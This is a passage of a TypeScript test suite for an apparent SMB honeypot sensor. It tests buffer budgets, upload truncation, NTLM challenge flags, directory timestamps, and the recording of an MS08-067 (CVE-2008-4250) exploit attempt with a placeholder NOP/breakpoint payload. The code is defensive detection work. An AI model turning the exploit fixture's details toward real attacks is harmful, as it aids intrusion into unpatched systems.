  serveSmb({ socket: socket as unknown as Socket, emitter, log, close, setIdleTimeout: () => {} }, 'direct', cfg, deps);
  const frame = Buffer.from(encodeNbssFrame(0, new Uint8Array(200_000).fill(0x5a)));
  const budgetBefore = SHARED_BUFFER_BUDGET.inUse;
  // Bytes allocated to buffer the frame while it arrives in 1000-byte segments.
  const alloc = mock.method(Buffer, 'allocUnsafe');
  const concat = mock.method(Buffer, 'concat');
  try {
    for (let i = 0; i < frame.length; i += 1000) socket.emit('data', frame.subarray(i, i + 1000));
  } finally {
    alloc.mock.restore();
    concat.mock.restore();
  }
  const allocated = alloc.mock.calls.reduce((n, c) => n + Number(c.arguments[0]), 0) + concat.mock.calls.reduce((n, c) => n + (c.result?.length ?? 0), 0);
  assert.ok(allocated < 8 * frame.length, `${allocated} bytes allocated to receive a ${frame.length}-byte frame`);
  const malformed = events.filter((e) => e.type === 'protocol.malformed').map((e) => (e.payload as { reason: string }).reason);
  assert.deepEqual(malformed, ['not an SMB message'], 'the frame arrived whole, once');
  assert.equal(socket.destroyed, false);
  socket.emit('close');
  assert.equal(SHARED_BUFFER_BUDGET.inUse, budgetBefore, 'buffered bytes are given back when the connection ends');
});

test('one byte written far past the end of a file is refused: the file stays what was written, captured as truncated', async () => {
  const { session, events } = newSession({}, 16 << 20);
  negotiateNtLm(session);
  const st = session.st;
  const tree = st.connectTree('\\\\h\\Public', guest);
  assert.ok(!('status' in tree));
  const f = st.open(tree, 'far.bin', DISPOSITION.OVERWRITE_IF, 0);
  assert.ok('kind' in f && f.kind === 'file');
  st.write(f, 0, Buffer.from('MZ'));
  st.write(f, (16 << 20) - 1, Uint8Array.of(1)); // within the upload limit (16 MiB), far past the end
  assert.equal(f.size, 2);
  session.dispose();
  await new Promise((r) => setTimeout(r, 20));
  const uploads = events.filter((e) => e.type === 'file.upload').map((e) => e.payload as { size: number; outcome: string });
  assert.deepEqual(uploads.map((u) => [u.size, u.outcome]), [[2, 'truncated']]);
});

test('an exploit payload the quarantine fails to write is still recorded as an exploit.attempt (without a hash)', async () => {
  const { events, cfg, log, deps, emitter } = fixture();
  const failing = { ...deps, quarantine: { store: async () => Promise.reject(new Error('quarantine write failed')) } } as unknown as SmbSensorDeps;
  const hooks = makeHooks({ emitter, log }, cfg, failing);
  hooks.exploitStep({ name: 'MS08-067', cve: 'CVE-2008-4250', detail: 'NetprPathCanonicalize path of 900 characters', payload: Uint8Array.of(0x90, 0x90, 0xcc), analyse: false });
  await new Promise((resolve) => setImmediate(resolve));
  const attempts = events.filter((e) => e.type === 'exploit.attempt').map((e) => e.payload);
  assert.deepEqual(attempts, [{ name: 'MS08-067', cve: 'CVE-2008-4250', detail: 'NetprPathCanonicalize path of 900 characters' }]);
});

test("the NTLM challenge's target type: a workgroup host names itself (TARGET_TYPE_SERVER), a domain member its domain", () => {
  const flagsOf = (dns_domain: string): number => {
    const { session } = newSession();
    const identity = { ...session.st.cfg.identity, dnsDomain: dns_domain, workgroup: 'CORP' };
    const st = new SmbSession({ ...session.st.cfg, identity }, {} as ConstructorParameters<typeof SmbSession>[1]).st;
    const msg = st.challengeMessage(st.newLogon(true)!, 0xe2088297);
    assert.equal(Buffer.from(msg.subarray(0, 12)).toString('latin1'), 'NTLMSSP\0\x02\0\0\0', 'a CHALLENGE');
    return new DataView(msg.buffer, msg.byteOffset).getUint32(20, true);
  };
  const workgroup = flagsOf('');
  assert.equal(workgroup & 0x00030000, 0x00020000, 'workgroup: TARGET_TYPE_SERVER only');
  const member = flagsOf('corp.example');
  assert.equal(member & 0x00030000, 0x00010000, 'domain member: TARGET_TYPE_DOMAIN only');
});

test('the share directory keeps its times: two listings at different moments show the same times, not the clock', () => {
  const { cfg, identity, log, deps, emitter } = fixture();
  let clock = 1_700_000_000_000;
  const session = new SmbSession({ identity, shares: sharesFor(cfg), maxUploadBytes: 1 << 20, uploadMemory: UPLOAD_MEMORY.account('127.0.0.1'), random: (k) => new Uint8Array(k).fill(3), now: () => clock }, makeHooks({ emitter, log }, cfg, deps));
  session.handle(req(0x72, new Uint8Array(0), Buffer.from('\x02NT LM 0.12\x00\x02SMB 2.002\x00', 'latin1')));
  const st = session.st;
  st.logons.set(1, { ...guest });
  const tree = st.connectTree('\\\\h\\Public', guest);
  assert.ok('id' in tree);
  const dir = st.open(tree, '', DISPOSITION.OPEN, 1);
  assert.ok('id' in dir && dir.kind === 'dir');
  /** QUERY_DIRECTORY (FileDirectoryInformation, restart scan) on the share root: "."'s LastWriteTime. */
  const listedTime = (): bigint => {
    const body = new ByteWriter(64).u16le(33).u8(1).u8(0x01).u32le(0).u64le(BigInt(dir.id)).u64le(0n).u16le(96).u16le(2).u32le(65536).bytes(Buffer.from('*', 'utf16le')).finish();
    const m = new ByteWriter(256).bytes(Uint8Array.of(0xfe, 0x53, 0x4d, 0x42)).u16le(64).u16le(0).u32le(0).u16le(0x0e).u16le(1).u32le(0).u32le(0).u64le(2n).u32le(0).u32le(tree.id).u64le(1n).zeros(16).bytes(body).finish();
    const out = session.handle(m);
    const reply = Buffer.from(out.replies[0]!);
    assert.equal(reply.readUInt32LE(8), 0, 'STATUS_SUCCESS');
    return reply.readBigUInt64LE(64 + 8 + 24);
  };
  const first = listedTime();
  clock += 3_600_000;
  assert.equal(listedTime(), first, 'an hour later the directory has not changed');
  assert.notEqual(first, BigInt(clock) * 10_000n + 116_444_736_000_000_000n, 'not the clock');
  session.dispose();
});
